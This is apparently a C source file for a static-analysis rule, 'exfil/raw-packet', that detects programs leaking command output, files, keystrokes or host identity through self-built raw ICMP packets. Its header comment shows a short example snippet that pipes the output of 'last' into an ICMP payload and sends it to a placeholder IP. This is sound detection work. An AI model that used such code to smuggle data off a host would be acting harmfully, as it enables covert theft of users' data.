/* exfil/raw-packet: data of this host leave in packets that the program builds itself.
 *
 *     int out = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
 *     fread(packet.payload, 1, 48, popen("last", "r"));
 *     sendto(out, &packet, sizeof packet, 0, address_of("198.51.100.9"), size);
 *
 * Secrets in such a packet are exfil/secret-to-network's. Not caught: data told by when packets are
 * sent, or how many.
 */
#include "checkers/shared/leak.h"

static const struct cargo {
    const char *class_name, *handle; /* of the origin; what it is read through, or NULL */
    const char *what;
    int weight;
} cargoes[] = {
    {"io.read", "pipe", "The output of a command", 30},
    {"io.read", "file", "The content of a file", 10},
    {"terminal.read", NULL, "What was typed", 20},
    {"environment", NULL, "A variable of the environment", 10},
    {"host.user", NULL, "A user of this host", 15},
    {"host.identity", NULL, "The identity of this host", 5},
};

static const struct cargo *find_cargo(struct vt_program *program, const struct vt_source *source) {
    for (size_t i = 0; i < sizeof cargoes / sizeof *cargoes; i++)
        if (vt_source_is(program, source, VT_FACT_ORIGIN, cargoes[i].class_name) &&
            (!cargoes[i].handle || vt_handle_is(program, source->event, cargoes[i].handle)))
            return &cargoes[i];
    return NULL;
}

static bool visit(struct vt_check *check, struct vt_leak *leak, void *context) {
    struct vt_program *program = vt_check_program(check);
    const struct cargo *cargo = find_cargo(program, leak->source);
    (void)context;
    if (!cargo || vt_leak_way(program, leak->asked.ref) != VT_WAY_RAW)
        return false;
    if (vt_find_source(program, leak->trace, VT_FACT_ORIGIN, "secret") ||
        vt_leak_is_named(check, leak, "secret"))
        return true;
    if (vt_leak_is_named(check, leak, "random")) /* a nonce, say */
        return false;
    struct vt_peer peer = vt_leak_peer(check, leak);
    if (peer.kind == VT_PEER_LOCAL)
        return true;
    struct vt_finding *finding = vt_finding_new(check, leak->asked.ref);
    vt_leak_weigh(check, finding, leak, &peer);
    vt_finding_message(check, finding, "%s from `%s` is sent in a packet built by the program.",
                       cargo->what, vt_source_function(program, leak->source));
    vt_finding_path(check, finding, leak->trace, leak->source, "It is read here",
                    "It is sent below the transport layer here");
    vt_finding_send(check, finding, 25 + cargo->weight);
    return true;
}

static void run(struct vt_check *check) {
    vt_leaks_to_network(check, visit, NULL);
}

const struct vt_rule vt_exfil_raw_packet = {
    .id = "exfil/raw-packet",
    .name = "RawPacket",
    .summary = "Data of this host leave in packets that the program builds itself",
    .description =
        "Data of this host reach a send on a raw or packet socket: the payload of an ICMP message, "
        "or fields of headers that nobody reads. Programs that measure a network fill such packets "
        "with a pattern, a time and a number; other data in them are a covert channel.",
    .help = "Send data over a transport that the declaration names. Fill packets for measuring "
            "with a pattern.",
    .cwe = "CWE-506,CWE-514",
    .precision = "medium",
    .severity = 8.0,
    .run = run,
};
